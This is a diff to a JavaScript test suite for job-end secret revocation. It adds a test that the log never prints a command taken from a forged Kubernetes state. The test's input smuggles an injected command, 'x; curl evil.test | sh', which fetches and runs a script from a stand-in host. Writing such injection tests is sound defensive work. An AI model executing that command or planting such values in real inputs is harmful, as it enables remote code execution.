@@ -120,6 +120,13 @@ describe('the end of a job', () => {
     expect((await post([{ ...receipt, onRevokeFailure: 'fail' }])).failure).toBeUndefined()
   })
 
+  test('prints no command from a state that the provider could not have written', async () => {
+    const revocation = { namespace: 'deploy', secret: 'x; curl evil.test | sh' }
+    const { runtime } = await post([{ ...receipt, from: 'kubernetes', revocation }])
+    expect(runtime.logged()).toMatch(/^app: could not be revoked/m)
+    expect(runtime.logged()).not.toMatch(/kubectl|evil/)
+  })
+
   test('reports each part of a lease', async () => {
     const { runtime } = await post([receipt, { ...receipt, id: 'cd34', expiresAt: START + 60 }])
     expect(runtime.logged().split('\n')).toEqual(['app: revoked', 'app: revoked'])
